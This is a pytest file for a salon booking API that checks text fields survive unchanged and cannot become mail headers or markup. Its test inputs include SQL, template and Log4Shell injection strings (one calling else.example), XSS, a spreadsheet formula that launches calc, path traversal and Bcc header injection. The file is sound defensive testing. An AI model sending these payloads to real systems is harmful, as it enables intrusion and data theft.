"""Texts come back as they were sent, whatever they mean elsewhere; in mails they mean nothing."""

import json
from email import message_from_bytes
from typing import Any

import pytest
from fastapi.testclient import TestClient

from adapters.mail.mime import as_mime
from application.scheduling.mails import Mailbox
from domain.scheduling.professionals import ALWAYS_OPEN
from tests.running import Running
from tests.scheduling.bookings.at_the_salon import Salon

pytestmark = [pytest.mark.postgres, pytest.mark.together]

STRANGE = (
    "'; DROP TABLE log.events; --",
    '" OR 1=1 /*',
    "{{7*7}}{% for x in ().__class__.__mro__ %}",
    "${jndi:ldap://else.example/a}",
    "<script>alert(1)</script>",
    "%s %(name)s %00 \\u0000 \\",
    "\u05d0\u05d1 (abc)\u200f \u0645\u06cc\u200c\u062e",
    "e\u0301\u0301\u0301 ﷺ Å ≠ Å",
    "👩‍👩‍👧‍👦 🏳️‍🌈",
    "\U0010ffff\ufffe",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "null",
)
SENDER = Mailbox("desk@frontdesk.example", "frontdesk")
LONG = "👩‍👩‍👧‍👦x{{7*7}}" * 700


@pytest.fixture
def http(running: Running) -> TestClient:
    return running.http()


def everywhere(salon: Salon, text: str, day: int) -> dict[str, dict[str, Any]]:
    """Return what is made with a text wherever one can be, by the address of its list."""
    return {
        "/v1/clients": {"name": text, "custom_id": text, "strategy_id": text},
        "/v1/services": {"name": text, "category": text, "duration_minutes": 30},
        "/v1/bookings": salon.wish(
            f"2027-01-{5 + day:02}T10:00:00+01:00",
            guest={"name": text, "email": "zoe@example.org"},
            notes=text,
            location=text,
            booking_type=text,
            details={text: text},
        ),
    }


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_json_is_utf_8(http: TestClient, encoding: str) -> None:
    body = '{"name": "Zoé"}'
    sent = {"Content-Type": "application/json"}

    refused = http.post("/v1/clients", content=body.encode(encoding), headers=sent)
    taken = http.post("/v1/clients", content=body.encode(), headers=sent)

    assert (refused.status_code, refused.json()["code"]) == (400, "body-malformed")
    assert (taken.status_code, taken.json()["name"]) == (201, "Zoé")


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity"])
def test_what_is_no_number_in_json_is_none_anywhere(running: Running, http, number: str) -> None:
    wish = json.dumps(Salon.opened(running).wish(details="here")).replace('"here"', number)

    refused = http.post("/v1/bookings", content=wish, headers={"Content-Type": "application/json"})

    assert (refused.status_code, refused.json()["code"]) == (400, "body-malformed")


def test_what_is_written_is_read(running: Running, http) -> None:
    salon = Salon.opened(running, hours=ALWAYS_OPEN)
    made = [everywhere(salon, text, day) for day, text in enumerate(STRANGE)]

    for path, body in ((path, body) for each in made for path, body in each.items()):
        created = http.post(path, json=body)
        assert created.status_code == 201, created.text
        assert_said(body, created.json())
        assert_said(body, http.get(created.headers["location"]).json())
    running.settle()
    for path, name in (
        ("/v1/clients", "name"),
        ("/v1/services", "name"),
        ("/v1/bookings", "notes"),
    ):
        assert {*STRANGE} <= {found[name] for found in listed(http, path)}, path


def test_what_is_written_is_found(running: Running, http) -> None:
    for text in STRANGE:
        http.post("/v1/clients", json={"name": text, "custom_id": text})
    running.settle()

    for text in STRANGE:
        [found] = listed(http, "/v1/clients", custom_id=text)
        assert found["name"] == text
        assert text in [found["name"] for found in listed(http, "/v1/clients", q=text)]


def assert_said(body: dict[str, Any], answer: dict[str, Any]) -> None:
    """Every text of a body is in the answer, unchanged."""
    for name in ("name", "category", "custom_id", "strategy_id", "notes", "location", "details"):
        assert answer.get(name) == body.get(name), name


def listed(http: TestClient, path: str, **asked: str) -> Any:
    answer = http.get(path, params=asked)
    assert answer.status_code == 200, answer.text
    return answer.json()["data"]


def test_long_texts_are_kept_to_the_last_character(running: Running, http) -> None:
    client = http.post("/v1/clients", json={"name": "Zoé"}).headers["location"]

    noted = http.post(f"{client}/notes", json={"text": LONG[:10_000]})
    too_long = http.post(f"{client}/notes", json={"text": LONG[:10_001]})
    running.settle()

    assert noted.json()["text"] == LONG[:10_000]
    assert too_long.status_code == 422
    assert LONG[:10_000] in [entry["text"] for entry in listed(http, f"{client}/timeline")]


UNSEEN = "\u202eelpoep\u202c \u200f\u200b\ufeff"


def test_a_line_loses_what_nobody_sees_and_is_found_with_and_without_it(
    running: Running, http
) -> None:
    salon = Salon.opened(running, hours=ALWAYS_OPEN)
    for path, body in everywhere(salon, UNSEEN, 0).items():
        created = http.post(path, json=body).json()
        for name in {"name", "category", "custom_id", "location", "booking_type"} & {*created}:
            assert created[name] in (None, "elpoep "), (path, name)
        for name in {"notes", "details"} & {*created}:
            assert created[name] == body.get(name), (path, name)
    running.settle()

    for asked in ({"q": UNSEEN}, {"q": "elpoep"}, {"custom_id": UNSEEN}):
        assert len(listed(http, "/v1/clients", **asked)) == 1, asked


@pytest.mark.parametrize("nothing", ["\u200b", "\u3164", "\u2800 \u00a0", "\u202e\u202c", "\u2028"])
@pytest.mark.parametrize("path", ["/v1/clients", "/v1/taxes"])
def test_a_name_of_which_nobody_sees_anything_is_refused(http, path, nothing) -> None:
    body = {"name": nothing} | ({"rate": 1, "country": "FR"} if path == "/v1/taxes" else {})

    refused = http.post(path, json=body)

    assert (refused.status_code, refused.json()["errors"][0]["pointer"]) == (422, "#/name")
    assert refused.json()["errors"][0]["code"] == "string-invisible"


@pytest.mark.parametrize("end", ["\r\n", "\n", "\r", "\0", "\x0b"])
def test_a_name_is_one_line(http, end) -> None:
    refused = http.post("/v1/clients", json={"name": f"Zoé{end}Bcc: all@else.example"})

    assert (refused.status_code, refused.json()["errors"][0]["pointer"]) == (422, "#/name")


@pytest.mark.parametrize("end", ["\u2028", "\u2029", "\x85", "\x9f", "\x7f"])
def test_nothing_in_a_name_becomes_a_header_or_markup(running: Running, http, end) -> None:
    name = f"Zoé{end}Bcc: all@else.example <b>{{{{7*7}}}}</b>"
    salon = Salon.opened(running)
    salon.book(http, guest={"name": name, "email": "zoe@example.org"}, notes=name, location=name)

    running.settle()
    mails = running.system.outbox.find(running.tenant, limit=10)

    assert {mail.mail.to.address for mail in mails} == {"zoe@example.org", "ana@salon.example"}
    for mail in mails:
        whole = as_mime(mail.mail, SENDER, mail_id="<1@salon.example>", sent_at=mail.sent_at)
        assert "<b>" not in mail.mail.html
        assert "49" not in mail.mail.subject
        assert "{{7*7}}" in mail.mail.text
        assert message_from_bytes(whole.content)["Bcc"] is None
        assert b"\nBcc:" not in whole.content
